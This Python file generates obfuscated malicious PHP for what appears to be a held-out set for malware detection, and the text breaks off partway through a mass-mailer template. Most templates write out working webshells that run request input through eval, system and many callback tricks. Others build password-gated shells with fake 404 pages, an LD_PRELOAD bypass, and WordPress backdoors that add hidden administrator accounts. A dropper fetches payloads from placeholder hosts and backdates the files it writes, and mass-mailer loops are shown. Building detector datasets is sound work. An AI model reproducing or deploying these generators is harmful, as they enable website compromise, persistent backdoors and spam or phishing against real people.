"""Malicious PHP of the held-out set: webshells, mass mailers, phishing-kit
handlers. Each template returns PHP code without the open tag (the container
adds it) or, with a leading '<', a whole file. Written blind (README.md)."""

from style import hide, layers, source, sq

EXEC1 = ("system", "passthru", "shell_exec", "exec")
HOSTS = ("198.51.100.23", "203.0.113.7", "192.0.2.44", "cdn-static.example.net", "update.example.org",
         "pastebin.example.com", "raw.example.io")


def callf(r, S, fname, args, how=None):
    """Call fname (hidden) with args: returns (prelude list, call expression)."""
    pre, name = hide(r, S, fname)
    a = ", ".join(args)
    how = how or r.choice(("var", "var", "cuf", "cufa", "map", "paren", "refl", "closure", "globals", "arr",
                           "filter", "shutdown", "fsc", "prc"))
    if fname in ("assert",) and how in ("map", "filter", "prc"):
        how = "var"
    if how == "var":
        v = S.var()
        pre.append("%s = %s;" % (v, name))
        return pre, "%s(%s)" % (v, a)
    if how == "cuf":
        return pre, "%s(%s, %s)" % (S.fn("call_user_func"), name, a)
    if how == "cufa":
        return pre, "%s(%s, array(%s))" % (S.fn("call_user_func_array"), name, a)
    if how == "map":
        return pre, "%s(%s, array(%s))" % (S.fn("array_map"), name, a)
    if how == "paren":
        return pre, "(%s)(%s)" % (name, a)
    if how == "refl":
        return pre, "(new ReflectionFunction(%s))->invoke(%s)" % (name, a)
    if how == "closure":
        return pre, "Closure::fromCallable(%s)->__invoke(%s)" % (name, a)
    if how == "globals":
        k = S.name()
        pre.append("$GLOBALS[%s] = %s;" % (sq(k), name))
        return pre, "$GLOBALS[%s](%s)" % (sq(k), a)
    if how == "arr":
        v = S.var()
        pre.append("%s = array(%s, %s);" % (v, sq(S.name()), name))
        return pre, "%s[1](%s)" % (v, a)
    if how == "filter":
        return pre, "%s(array(%s), %s)" % (S.fn("array_filter"), a, name)
    if how == "shutdown":
        return pre, "%s(%s, %s)" % (S.fn("register_shutdown_function"), name, a)
    if how == "fsc":
        return pre, "%s(%s, %s)" % (S.fn("forward_static_call"), name, a)
    v = S.var()
    pre.append("%s = %s;" % (v, name))
    return pre, "%s('/.+/s', function ($m) use (%s) { return %s($m[0]); }, %s)" % (
        S.fn("preg_replace_callback"), v, v, a)


def _guard(r, S, body):
    """Sometimes wrap in an isset()/!empty() check on a request key."""
    k = r.random()
    if k < 0.4:
        return body
    key = r.choice(("c", "cmd", "z", "wp", "v", "debug", "sid", "q"))
    arr = r.choice(("$_REQUEST", "$_POST", "$_GET", "$_COOKIE"))
    if k < 0.7:
        return "if (isset(%s[%s])) {\n%s\n}" % (arr, sq(key), body)
    return "if (!empty(%s[%s])) { %s }" % (arr, sq(key), body.replace("\n", " "))


# ---------------------------------------------------------------------------
# webshells


def ws_eval_input(r, S):
    src = source(r, S)
    k = r.randint(0, 5)
    if k == 0:
        body = "%s(%s);" % ("@eval" if S.at else "eval", src)
    elif k == 1:
        v = S.var()
        body = "%s = %s;\neval(%s);" % (v, src, v)
    elif k == 2:
        body = "eval(%s(%s));" % (S.fn("stripslashes"), src)
    elif k == 3:
        body = "eval('?>' . %s);" % src
    elif k == 4:
        v = S.var()
        body = "%s = %s(%s);\nif (%s) { eval(%s); }" % (v, S.fn("trim"), src, v, v)
    else:
        body = "@eval(\"\\$x=1;\" . %s);" % src
    return _guard(r, S, body)


def ws_assert_input(r, S):
    pre, call = callf(r, S, "assert", [source(r, S)], r.choice(("var", "cuf", "cufa", "globals", "arr", None)))
    return S.lines(pre + ["@%s;" % call if S.at else call + ";"])


def ws_exec_input(r, S):
    f = r.choice(EXEC1 + ("popen", "proc_open", "pcntl_exec"))
    src = source(r, S)
    if f in EXEC1:
        pre, call = callf(r, S, f, [src])
        wrap = r.choice(("echo %s;", "print %s;", "%s;", "echo '<pre>' . %s . '</pre>';", "die(%s);"))
        if f == "exec":
            o = S.var()
            pre2, call = callf(r, S, "exec", [src, o])
            return S.lines(pre2 + ["%s;" % call, "echo %s(\"\\n\", %s);" % (S.fn("implode"), o)])
        return S.lines(pre + [wrap % call])
    if f == "popen":
        h = S.var()
        return S.lines(["%s = %s(%s . ' 2>&1', 'r');" % (h, S.fn("popen"), src),
                        "while (!%s(%s)) { echo %s(%s, 4096); }" % (S.fn("feof"), h, S.fn("fread"), h),
                        "%s(%s);" % (S.fn("pclose"), h)])
    if f == "proc_open":
        p, pipes = S.var(), S.var()
        return S.lines([
            "%s = %s(%s, array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w')), %s);"
            % (p, S.fn("proc_open"), src, pipes),
            "echo %s(%s[1]) . %s(%s[2]);" % (S.fn("stream_get_contents"), pipes, S.fn("stream_get_contents"), pipes),
            "%s(%s);" % (S.fn("proc_close"), p)])
    return "%s('/bin/sh', array('-c', %s));" % (S.fn("pcntl_exec"), src)


def ws_backticks(r, S):
    src = source(r, S)
    v = S.var()
    k = r.randint(0, 2)
    if k == 0:
        return "echo `{%s[%s]}`;" % (r.choice(("$_GET", "$_POST", "$_REQUEST")), sq(r.choice(("c", "x", "q"))))
    if k == 1:
        return "%s = %s;\n$o = `%s`;\necho \"<pre>$o</pre>\";" % (v, src, v)
    return "%s = %s;\nprint(`%s 2>&1`);" % (v, src, v)


def ws_callback(r, S):
    f = r.choice(("system", "passthru", "assert", "shell_exec"))
    how = r.choice(("cuf", "cufa", "map", "filter", "shutdown", "fsc", "prc", "refl", "closure"))
    pre, call = callf(r, S, f, [source(r, S)], how)
    if f == "shell_exec":
        call = "print_r(%s)" % call
    return S.lines(pre + [call + ";"])


def ws_usort(r, S):
    f = r.choice(("system", "passthru", "assert"))
    pre, name = hide(r, S, f)
    a = S.var()
    k = r.randint(0, 3)
    if k == 0:
        body = ["%s = array(%s, 1);" % (a, source(r, S)), "%s(%s, %s);" % (S.fn("usort"), a, name)]
    elif k == 1:
        body = ["%s = array(%s => 1);" % (a, source(r, S)), "%s(%s, %s);" % (S.fn("uksort"), a, name)]
    elif k == 2:
        body = ["%s(%s, %s);" % (S.fn("array_walk"), "$_POST", name)]
    else:
        body = ["%s = new ArrayIterator(array(%s));" % (a, source(r, S)),
                "%s(%s, %s, array(%s->current()));" % (S.fn("iterator_apply"), a, name, a)]
    return S.lines(pre + body)


def ws_varfunc(r, S):
    f = r.choice(EXEC1 + ("assert",))
    pre, call = callf(r, S, f, [source(r, S)], r.choice(("var", "paren", "globals", "arr")))
    return S.lines(pre + ["echo %s;" % call if f == "shell_exec" else call + ";"])


def ws_input_callee(r, S):
    k = r.randint(0, 4)
    a, b = r.choice((("a", "b"), ("f", "c"), ("1", "2"), ("fn", "arg"), ("k", "v")))
    arr = r.choice(("$_GET", "$_POST", "$_REQUEST", "$_COOKIE"))
    if k == 0:
        return "%s[%s](%s[%s]);" % (arr, sq(a), arr, sq(b))
    if k == 1:
        return "@%s(%s);\n$%s($%s);" % (S.fn("extract"), arr, a if a.isalpha() else "f", b if b.isalpha() else "c")
    if k == 2:
        return "foreach (%s as $k => $v) { $$k = $v; }\nif (isset($%s)) { $%s($%s); }" % (
            arr, "p", "p", "q")
    if k == 3:
        v = S.var()
        return "%s = %s;\n%s(%s[%s], %s[%s]);" % (v, arr, S.fn("call_user_func"), v, sq(a), v, sq(b))
    return "%s($_SERVER['QUERY_STRING'], $q);\n$q['f']($q['x']);" % S.fn("parse_str")


def ws_varvar(r, S):
    a, b = S.var(), S.var()
    pre, nm = hide(r, S, r.choice(("_POST", "_GET", "_REQUEST", "_COOKIE")))
    k = r.randint(0, 3)
    key = sq(r.choice(("c", "x", "pw", "z")))
    if k == 0:
        return S.lines(pre + ["%s = %s;" % (a, nm), "%s = $%s;" % (b, a), "eval(%s[%s]);" % (b, key)])
    if k == 1:
        return S.lines(pre + ["eval(${%s}[%s]);" % (nm, key)])
    if k == 2:
        p2, f = hide(r, S, "system")
        return S.lines(pre + p2 + ["%s = %s;" % (a, f), "%s = %s;" % (b, nm), "%s(${%s}[%s]);" % (a, b, key)])
    n1 = S.name()
    return S.lines(pre + ["$%s = %s;" % (n1, nm), "%s = '%s';" % (a, n1), "%s = $%s;" % (b, a),
                          "eval(${%s}[%s]);" % (b, key)])


def ws_create_function(r, S):
    pre, cf = hide(r, S, "create_function")
    cf = "(%s)" % cf  # a callee: "a" . "b"(...) would call "b"
    v = S.var()
    k = r.randint(0, 2)
    if k == 0:
        return S.lines(pre + ["%s = %s('', %s);" % (v, cf, source(r, S)), "%s();" % v])
    if k == 1:
        return S.lines(pre + ["%s = %s('$x', 'eval($x);');" % (v, cf), "%s(%s);" % (v, source(r, S))])
    return S.lines(pre + ["$f = %s('', %s(%s));" % (cf, S.fn("base64_decode"), source(r, S)), "$f();"])


def ws_preg_e(r, S):
    pre, pat = hide(r, S, r.choice(("/.*/e", "/x/e", "#(.+)#ie", "~^~e", "/^/e")))
    f = r.choice(("preg_replace", "preg_replace", "preg_filter", "mb_ereg_replace"))
    if f == "mb_ereg_replace":
        return S.lines(["%s('.*', %s, '', 'e');" % (S.fn(f), source(r, S))])
    subject = sq(r.choice(("x", "", "abc", "1")))
    return S.lines(pre + ["%s(%s, %s, %s);" % (S.s(f), pat, source(r, S), subject)])


def ws_include_input(r, S):
    k = r.randint(0, 5)
    src = source(r, S)
    if k == 0:
        return "%s %s;" % (r.choice(("include", "require", "include_once", "require_once")), src)
    if k == 1:
        return "include('data://text/plain;base64,' . %s);" % src
    if k == 2:
        return "include 'php://input';"
    if k == 3:
        return "if (!empty($_FILES)) { include $_FILES[%s]['tmp_name']; }" % sq(r.choice(("f", "file", "up")))
    if k == 4:
        v = S.var()
        return "%s = %s() . '/' . %s(%s);\n%s(%s, %s);\ninclude %s;" % (
            v, S.fn("sys_get_temp_dir"), S.fn("md5"), src, S.fn("file_put_contents"), v, src, v)
    return "require 'data:text/plain,' . %s(%s);" % (S.fn("urlencode"), src)


SHELL_CORE = [
    "if (isset($_REQUEST['c'])) { echo '<pre>'; system($_REQUEST['c'] . ' 2>&1'); echo '</pre>'; }",
    "$c = $_POST['cmd']; $o = shell_exec($c); echo htmlspecialchars($o);",
    "@eval($_POST['z0']);",
    "if(isset($_GET['e'])){passthru($_GET['e']);}",
    "echo \"<form method=post><input name=c><input type=submit></form>\"; if ($_POST) { echo `{$_POST['c']}`; }",
    "$f = $_COOKIE['f']; $f($_COOKIE['a']);",
]


def ws_eval_layers(r, S):
    core = r.choice(SHELL_CORE)
    return layers(r, S, core, r.randint(1, 4))


def ws_cookie_eval(r, S):
    c = sq(r.choice(("PHPSESSID_", "wp_cache", "lang", "__utmz", "pll", "_gid", "sid")))
    v = S.var()
    k = r.randint(0, 3)
    if k == 0:
        return "if (isset($_COOKIE[%s])) { eval(%s($_COOKIE[%s])); }" % (c, S.fn("base64_decode"), c)
    if k == 1:
        return "%s = @%s(%s(%s($_COOKIE[%s])));\nif (%s) eval(%s);" % (
            v, S.fn("gzinflate"), S.fn("base64_decode"), S.fn("strrev"), c, v, v)
    if k == 2:
        pre, f = hide(r, S, "base64_decode")
        return S.lines(pre + ["%s = %s;" % (v, f), "@eval(%s(%s($_COOKIE[%s])));" % (v, S.fn("str_rot13"), c)])
    return ("%s = %s($_COOKIE);\nif (%s && %s(%s[0], 0, 4) == 'x9k_') { eval(%s(%s(%s[0], 4))); }" % (
        v, S.fn("array_values"), v, S.fn("substr"), v, S.fn("base64_decode"), S.fn("substr"), v))


def ws_header_keyed(r, S):
    h = r.choice(("X_CACHE_KEY", "X_FORWARDED_SCHEME", "ACCEPT_CHARSET_X", "X_WP_NONCE2", "X_REQUESTED_ID"))
    v = S.var()
    k = r.randint(0, 2)
    if k == 0:
        return "if (!empty($_SERVER['HTTP_%s'])) { @eval(%s($_SERVER['HTTP_%s'])); }" % (h, S.fn("base64_decode"), h)
    if k == 1:
        pre, call = callf(r, S, r.choice(EXEC1), [v])
        return S.lines(["%s = %s();" % (v + "h", S.fn("getallheaders")),
                        "if (isset(%sh[%s])) {" % (v, sq(h.replace("_", "-").title())),
                        "  %s = %sh[%s];" % (v, v, sq(h.replace("_", "-").title()))] + pre + ["  echo %s;" % call, "}"])
    return ("if (%s($_SERVER['HTTP_USER_AGENT'], 'Mozilla/5.0 (x11-%d)') === 0) { eval(%s(%s)); }" % (
        S.fn("strpos"), r.randint(10, 99), S.fn("base64_decode"), "$_SERVER['HTTP_X_DATA']"))


def ws_password_gated(r, S):
    pw = "".join(r.choice("abcdef0123456789") for _ in range(32))
    arr = r.choice(("$_POST", "$_GET", "$_REQUEST", "$_COOKIE"))
    pk, ck = sq(r.choice(("pass", "pw", "k", "auth", "token"))), sq(r.choice(("c", "code", "x", "cmd")))
    hf = r.choice(("md5", "sha1", "crc32", "hash"))
    if hf == "hash":
        chk = "%s('sha256', %s[%s]) === %s" % (S.fn("hash"), arr, pk, sq(pw + pw))
    elif hf == "crc32":
        chk = "%s(%s[%s]) == %d" % (S.fn("crc32"), arr, pk, r.randint(10 ** 8, 4 * 10 ** 9))
    else:
        chk = "%s(%s[%s]) == %s" % (S.fn(hf), arr, pk, sq(pw[:40] if hf == "sha1" else pw))
    action = r.choice(("eval(%s[%s]);" % (arr, ck), "system(%s[%s]);" % (arr, ck),
                       "echo shell_exec(%s[%s]);" % (arr, ck), "assert(%s[%s]);" % (arr, ck)))
    deny = r.choice(("header('HTTP/1.1 404 Not Found'); exit;",
                     "echo '<h1>Not Found</h1><p>The requested URL was not found on this server.</p>'; exit;",
                     "die();", "http_response_code(404); die('');"))
    return S.lines(["if (!(isset(%s[%s]) && %s)) { %s }" % (arr, pk, chk, deny), action])


def ws_gadget(r, S):
    cls, prop = "C" + S.name().lstrip("_").title(), "p" + S.name().lstrip("_")
    meth = r.choice(("__destruct", "__toString", "__wakeup", "__call", "__get", "__invoke", "__set"))
    pre, f = hide(r, S, r.choice(("system", "assert", "passthru")))
    fp = "h" + S.name().lstrip("_")
    if fp == prop:
        fp += "2"
    inner = "%s($this->%s, $this->%s);" % (S.fn("call_user_func"), fp, prop)
    args = {"__call": "$n, $a", "__get": "$n", "__set": "$n, $v", "__invoke": "$x"}.get(meth, "")
    ret = " return '';" if meth == "__toString" else ""
    body = ["class %s {" % cls, "  public $%s; public $%s;" % (prop, fp),
            "  function __construct($f = null, $v = null) { $this->%s = $f; $this->%s = $v; }" % (fp, prop),
            "  function %s(%s) { %s%s }" % (meth, args, inner, ret), "}"]
    src = "%s, %s" % (f, source(r, S))
    trig = {"__destruct": "$o = new %s(%s);" % (cls, src), "__toString": "echo new %s(%s);" % (cls, src),
            "__wakeup": "@unserialize(%s);" % source(r, S), "__call": "(new %s(%s))->run();" % (cls, src),
            "__get": "$o = new %s(%s); $o->x;" % (cls, src), "__invoke": "$o = new %s(%s); $o(1);" % (cls, src),
            "__set": "$o = new %s(%s); $o->y = 1;" % (cls, src)}[meth]
    return S.lines(pre + body + [trig])


def ws_reflection(r, S):
    pre, f = hide(r, S, r.choice(("system", "passthru", "shell_exec", "assert")))
    v = S.var()
    k = r.randint(0, 2)
    if k == 0:
        return S.lines(pre + ["%s = new ReflectionFunction(%s);" % (v, f),
                              "echo %s->invokeArgs(array(%s));" % (v, source(r, S))])
    if k == 1:
        return S.lines(pre + ["%s = new ReflectionFunction(%s);" % (v, f),
                              "%s->getClosure()->__invoke(%s);" % (v, source(r, S))])
    return S.lines(pre + ["%s = (new ReflectionClass('ReflectionFunction'))->newInstance(%s);" % (v, f),
                          "%s->invoke(%s);" % (v, source(r, S))])


def ws_closure(r, S):
    pre, f = hide(r, S, r.choice(("system", "passthru", "assert")))
    v, w = S.var(), S.var()
    k = r.randint(0, 3)
    src = source(r, S)
    if k == 0:
        x = S.var()
        return S.lines(pre + ["%s = %s;" % (w, f), "%s = function (%s) use (%s) { return %s(%s); };" % (v, x, w, w, x),
                              "%s(%s);" % (v, src)])
    if k == 1:
        return S.lines(pre + ["%s = fn($a) => (%s)($a);" % (v, f), "%s(%s);" % (v, src)])
    if k == 2:
        return S.lines(pre + ["%s = %s;" % (w, f), "(function () use (%s) { %s(%s); })();" % (w, w, src)])
    return S.lines(pre + ["%s = %s(%s);" % (v, "Closure::fromCallable", f), "%s(%s);" % (v, src)])


def ws_goto(r, S):
    pre, f = hide(r, S, r.choice(("system", "assert", "passthru")))
    v, w = S.var(), S.var()
    stmts = pre + ["%s = %s;" % (v, f), "%s = %s;" % (w, source(r, S)), "%s(%s);" % (v, w)]
    labels = ["%s%04x" % (r.choice("LlkQz"), r.randint(0, 65535)) + chr(97 + i) for i, _ in enumerate(stmts)]
    blocks = [(labels[i], stmts[i], labels[i + 1] if i + 1 < len(stmts) else "E" + labels[0]) for i in
              range(len(stmts))]
    order = blocks[:]
    r.shuffle(order)
    out = ["goto %s;" % labels[0]]
    for lab, st, nxt in order:
        out.append("%s: %s goto %s;" % (lab, st, nxt))
    out.append("E%s:" % labels[0])
    return "\n".join(out)


def ws_array_trick(r, S):
    f = r.choice(("system", "passthru", "assert"))
    pre, nm = hide(r, S, f)
    a, k = S.var(), r.randint(0, 3)
    src = source(r, S)
    if k == 0:
        return S.lines(pre + ["%s = array(%s => %s);" % (a, sq("f"), nm), "%s['f'](%s);" % (a, src)])
    if k == 1:
        return S.lines(pre + ["list(%s, %s) = array(%s, %s);" % (a, a + "2", nm, src), "%s(%s2);" % (a, a)])
    if k == 2:
        return S.lines(pre + ["%s = %s(array(%s => 0));" % (a, S.fn("array_flip"), nm),
                              "%s[0](%s);" % (a, src)])
    return S.lines(pre + ["%s = %s(array(%s, 'x'));" % (a, S.fn("array_reverse"), nm),
                          "%s(%s[1], array(%s));" % (S.fn("call_user_func_array"), a, src)])


def ws_rare_callback(r, S):
    """Callees reached through hooks few people think of."""
    f = r.choice(("system", "passthru", "assert"))
    pre, nm = hide(r, S, f)
    v = S.var()
    pre.append("%s = %s;" % (v, nm))
    src = source(r, S)
    k = r.randint(0, 7)
    if k == 0:
        body = ["%s(%s);" % (S.fn("ob_start"), v), "echo %s;" % src, "%s();" % S.fn("ob_end_flush")]
    elif k == 1:
        body = ["%s(function ($n, $s) use (%s) { %s($s); return true; });" % (S.fn("set_error_handler"), v, v),
                "%s(%s, E_USER_NOTICE);" % (S.fn("trigger_error"), src)]
    elif k == 2:
        body = ["%s(function ($e) use (%s) { %s($e->getMessage()); });" % (S.fn("set_exception_handler"), v, v),
                "throw new Exception(%s);" % src]
    elif k == 3:
        body = ["%s(function ($c) use (%s) { %s(%s); });" % (S.fn("spl_autoload_register"), v, v, src),
                "class_exists('Wp_Cache_Loader_%d');" % r.randint(1, 99)]
    elif k == 4:
        body = ["%s(array(%s), array(1), %s);" % (S.fn("array_udiff"), src, v)]
    elif k == 5:
        body = ["%s(array('/.+/' => function ($m) use (%s) { return %s($m[0]); }), %s);" % (
            S.fn("preg_replace_callback_array"), v, v, src)]
    elif k == 6:
        body = ["%s(function () use (%s) { %s(%s); });" % (S.fn("header_register_callback"), v, v, src), "echo ' ';"]
    else:
        body = ["declare(ticks=1);", "%s(%s, %s);" % (S.fn("register_tick_function"), v, src), "$x = 1;"]
    if k == 7:  # declare() must come first
        return S.lines([body[0]] + pre + body[1:])
    return S.lines(pre + body)


def ws_heredoc(r, S):
    """The payload in a heredoc or nowdoc, decoded and run."""
    import base64
    core = r.choice(SHELL_CORE)
    b = base64.b64encode(core.encode()).decode()
    lines = "\n".join(b[i:i + 76] for i in range(0, len(b), 76))
    tag = r.choice(("EOT", "DATA", "HTML", "CSS", "X"))
    v = S.var()
    now = r.random() < 0.5
    return S.lines(["%s = <<<%s\n%s\n%s;" % (v, ("'%s'" % tag) if now else tag, lines, tag),
                    "eval(%s(%s(\"\\n\", '', %s)));" % (S.fn("base64_decode"), S.fn("str_replace"), v)])


def ws_uploader(r, S):
    fld = sq(r.choice(("file", "f", "upl", "uploaded", "userfile", "x")))
    k = r.randint(0, 3)
    form = r.choice(('echo \'<form method="post" enctype="multipart/form-data"><input type="file" name=%s>'
                     '<input type="submit" value="Upload"></form>\';' % fld.strip("'"),
                     'echo "<form method=post enctype=multipart/form-data><input type=file name=%s><input '
                     'type=submit value=&gt;&gt;></form>";' % fld.strip("'"), ""))
    dst = r.choice(("$_FILES[%s]['name']" % fld, "$_POST['dir'] . '/' . $_FILES[%s]['name']" % fld,
                    "%s(__FILE__) . '/' . $_FILES[%s]['name']" % (S.fn("dirname"), fld),
                    "$_SERVER['DOCUMENT_ROOT'] . '/' . $_POST['to']"))
    mv = S.fn(r.choice(("move_uploaded_file", "move_uploaded_file", "copy", "rename")))
    if k == 3:
        return S.lines([form, "if (isset($_FILES[%s])) { %s(%s, $_POST['p'] ?? 'x.php'); echo 'ok'; }" % (
            fld, mv, "$_FILES[%s]['tmp_name']" % fld)])
    res = r.choice(("echo '<b>done</b>';", "echo 'OK: ' . %s;" % dst, "print 'uploaded';", ""))
    return S.lines([form, "if (!empty($_FILES[%s]['tmp_name'])) {" % fld,
                    "  if (@%s($_FILES[%s]['tmp_name'], %s)) { %s } else { echo 'fail'; }" % (mv, fld, dst, res),
                    "}"])


def ws_filemanager(r, S):
    d, f, a = S.var(), S.var(), S.var()
    act = sq(r.choice(("a", "act", "do", "op", "m")))
    ui = r.choice(("table", "pre", "list"))
    lst = {"table": "echo '<tr><td>' . htmlspecialchars(%s) . '</td><td>' . @filesize(%s . '/' . %s) . "
                    "'</td><td>' . substr(sprintf('%%o', @fileperms(%s . '/' . %s)), -4) . '</td></tr>';"
                    % (f, d, f, d, f),
           "pre": "echo %s . \"\\n\";" % f, "list": "echo '<li><a href=\"?d=' . urlencode(%s . '/' . %s) . '\">' . "
                                                  "%s . '</a></li>';" % (d, f, f)}[ui]
    return S.lines([
        "%s = isset($_GET['d']) ? $_GET['d'] : %s();" % (d, S.fn("getcwd")),
        "%s = isset($_REQUEST[%s]) ? $_REQUEST[%s] : 'ls';" % (a, act, act),
        "if (%s == 'ls') { foreach (%s(%s) as %s) { %s } }" % (a, S.fn("scandir"), d, f, lst),
        "elseif (%s == 'read') { echo htmlspecialchars(%s($_GET['f'])); }" % (a, S.fn("file_get_contents")),
        "elseif (%s == 'save') { %s($_POST['f'], $_POST['content']); echo 'saved'; }" % (a, S.fn("file_put_contents")),
        "elseif (%s == 'del') { @%s($_GET['f']); }" % (a, S.fn("unlink")),
        "elseif (%s == 'chmod') { @%s($_GET['f'], %s($_GET['mode'])); }" % (a, S.fn("chmod"), S.fn("octdec")),
        "elseif (%s == 'mkdir') { @%s(%s . '/' . $_GET['n']); }" % (a, S.fn("mkdir"), d),
        "elseif (%s == 'dl') { header('Content-Disposition: attachment; filename=' . basename($_GET['f'])); "
        "readfile($_GET['f']); exit; }" % a,
    ])


def ws_dropper(r, S):
    host = r.choice(HOSTS)
    url = sq("http%s://%s/%s" % (r.choice(("", "s")), host, r.choice(("raw/x7Ka", "s.txt", "img/logo.gif",
                                                                    "wp.txt", "v2/get?id=%d" % r.randint(1, 99)))))
    out = r.choice(("'wp-content/uploads/cache.php'", "__DIR__ . '/.class-wp-db.php'", "'../index2.php'",
                    "$_SERVER['DOCUMENT_ROOT'] . '/wp-includes/css/about.php'", "'/tmp/.sess_' . md5(__FILE__)",
                    "$_GET['n']"))
    k = r.randint(0, 4)
    v = S.var()
    if k == 0:
        get = "%s(%s)" % (S.fn("file_get_contents"), url)
    elif k == 1:
        c = S.var()
        return S.lines(["%s = %s(%s);" % (c, S.fn("curl_init"), url),
                        "%s(%s, CURLOPT_RETURNTRANSFER, 1);" % (S.fn("curl_setopt"), c),
                        "%s(%s, CURLOPT_SSL_VERIFYPEER, false);" % (S.fn("curl_setopt"), c),
                        "%s = %s(%s);" % (v, S.fn("curl_exec"), c),
                        "%s(%s, %s);" % (S.fn("file_put_contents"), out, v), "echo 'ok';"])
    elif k == 2:
        return S.lines(["@%s(%s, %s);" % (S.fn("copy"), url, out), "@%s(%s, 0644);" % (S.fn("chmod"), out)])
    elif k == 3:
        get = "%s(%s)" % (S.fn("file_get_contents"), source(r, S))
    else:
        # resurrect: re-create a removed shell from an embedded copy
        payload = layers(r, S, r.choice(SHELL_CORE), 1)
        import base64
        b = base64.b64encode(("<?php " + payload).encode()).decode()
        return S.lines(["%s = %s;" % (v, out),
                        "if (!%s(%s) || %s(%s) < 100) {" % (S.fn("file_exists"), v, S.fn("filesize"), v),
                        "  @%s(%s, %s(%s));" % (S.fn("file_put_contents"), v, S.fn("base64_decode"), sq(b)),
                        "  @%s(%s, %s() - 86400 * %d);" % (S.fn("touch"), v, S.fn("time"), r.randint(30, 400)),
                        "}"])
    return S.lines(["%s = %s;" % (v, get), "if (%s(%s, '<?') !== false) { %s(%s, %s); }" % (
        S.fn("strpos"), v, S.fn("file_put_contents"), out, v)])


def ws_ldpreload(r, S):
    so = sq(r.choice(("/tmp/.x.so", "/dev/shm/libc.so", "/var/tmp/php.so")))
    return S.lines([
        "%s(%s, %s($_POST['so']));" % (S.fn("file_put_contents"), so, S.fn("base64_decode")),
        "%s('CMD_LINE=' . $_POST['c'] . ' > /tmp/.o 2>&1');" % S.fn("putenv"),
        "%s('LD_PRELOAD=' . %s);" % (S.fn("putenv"), so),
        r.choice(("mail('a@example.com', '', '', '');", "error_log('x', 1, 'a@example.com');",
                  "$i = new Imagick(); $i->readImage('x.wmv');")),
        "echo @%s('/tmp/.o');" % S.fn("file_get_contents"),
    ])


def ws_wp_backdoor(r, S):
    """Code that an attacker adds to a theme's functions.php or a plugin."""
    k = r.randint(0, 3)
    key = sq("".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(10)))
    if k == 0:
        user = sq(r.choice(("wpadmin2", "support_wp", "adm1n", "wordpress_sys")))
        return S.lines([
            "add_action('init', function () {",
            "  if (isset($_GET[%s])) {" % key,
            "    require_once ABSPATH . 'wp-includes/registration.php';",
            "    if (!username_exists(%s)) { $id = wp_create_user(%s, %s, 'x@example.net'); "
            "$u = new WP_User($id); $u->set_role('administrator'); }" % (user, user, sq("P@ss" + str(r.randint(100, 999)))),
            "  }", "});",
            "add_action('pre_user_query', function ($q) { global $wpdb; $q->query_where .= \" AND {$wpdb->users}.user_login != %s\"; });"
            % user])
    if k == 1:
        return S.lines(["add_action('wp_head', function () {",
                        "  if (isset($_REQUEST[%s])) { @eval(%s(%s($_REQUEST[%s]))); exit; }" % (
                            key, S.fn("stripslashes"), S.fn("base64_decode"), key), "});"])
    if k == 2:
        pre, f = hide(r, S, "base64_decode")
        return S.lines(pre + ["if (isset($_COOKIE[%s]) && md5($_COOKIE[%s]) == %s) {" % (key, key, sq(
            "".join(r.choice("0123456789abcdef") for _ in range(32)))),
            "  $c = (%s)($_POST['d']); eval($c);" % f, "}"])
    path = r.choice(("/wp-content/uploads/2023/08/.thumb_16x16.ico", "/wp-includes/images/smilies/icon_wp.png",
                     "/wp-content/plugins/akismet/.cache.txt"))
    p2, e = hide(r, S, path)
    return S.lines(p2 + ["@include_once(ABSPATH . %s);" % e if r.random() < 0.5 else
                         "@include $_SERVER['DOCUMENT_ROOT'] . %s;" % e])


# ---------------------------------------------------------------------------
# mass mailers


def _list_src(r, S):
    return r.choice((
        "%s($_FILES['list']['tmp_name'])" % S.fn("file"),
        "%s(\"\\n\", $_POST['emails'])" % S.fn("explode"),
        "%s('/[\\s,;]+/', $_POST['to'])" % S.fn("preg_split"),
        "%s(__DIR__ . '/%s')" % (S.fn("file"), r.choice(("list.txt", "m.txt", ".l", "emails.csv"))),
        "%s(\"\\r\\n\", %s($_FILES['l']['tmp_name']))" % (S.fn("explode"), S.fn("file_get_contents")),
        "%s(%s($_GET['u']))" % (S.fn("file"), S.fn("urldecode")),
    ))


def ml_oneline(r, S):
    t = S.var()
    subj = r.choice(("$_POST['s']", "$_POST['subject']", "'Your account statement'", "$_REQUEST['t']"))
    body = r.choice(("$_POST['m']", "$_POST['body']", "stripslashes($_POST['msg'])",
                     "base64_decode($_POST['b'])"))
    hdr = r.choice(("'From: ' . $_POST['f']", "\"From: {$_POST['from']}\\r\\nContent-Type: text/html\"",
                    "'MIME-Version: 1.0' . \"\\r\\n\" . 'Content-type: text/html; charset=utf-8'"))
    return "foreach (%s as %s) { @%s(%s(%s), %s, %s, %s); }" % (_list_src(r, S), t, S.fn("mail"), S.fn("trim"),
                                                                t, subj, body, hdr)


def ml_loop_post(r, S):
    lst, i, t, n = S.var(), S.var(), S.var(), S.var()
    sl = r.choice(("", "usleep(%d);" % r.randint(1000, 500000), "sleep(%d);" % r.randint(1, 3)))
    return S.lines([
        "set_time_limit(0); ignore_user_abort(1);",
        "%s = %s;" % (lst, _list_src(r, S)),
        "%s = 0;" % n,
        "for (%s = 0; %s < count(%s); %s++) {" % (i, i, lst, i),
        "  %s = trim(%s[%s]); if (%s == '') continue;" % (t, lst, i, t),
        "  $body = str_replace(array('[-email-]', '[-time-]'), array(%s, date('r')), $_POST['letter']);" % t,
        "  if (%s(%s, $_POST['subject'], $body, 'From: ' . $_POST['realname'] . ' <' . $_POST['from'] . '>')) "
        "{ %s++; echo \"sent to $%s<br>\"; flush(); }" % (S.fn("mail"), t, n, t.lstrip("$")),
        "  %s" % sl, "}", "echo \"done: %s\";" % n])


def ml_phpmailer(r, S):
    m, t = S.var(), S.var()
    req = r.choice(("require 'PHPMailer/src/PHPMailer.php'; require 'PHPMailer/src/SMTP.php';",
                    "require_once __DIR__ . '/vendor/autoload.php';", "include 'class.phpmailer.php';"))
    cls = r.choice(("PHPMailer\\PHPMailer\\PHPMailer", "PHPMailer"))
    return S.lines([req, "%s = new %s(true);" % (m, cls), "%s->isSMTP();" % m,
                    "%s->Host = $_POST['smtp_host']; %s->Port = (int)$_POST['smtp_port'];" % (m, m),
                    "%s->SMTPAuth = true; %s->Username = $_POST['smtp_user']; %s->Password = $_POST['smtp_pass'];"
                    % (m, m, m),
                    "%s->setFrom($_POST['from'], $_POST['from_name']);" % m,
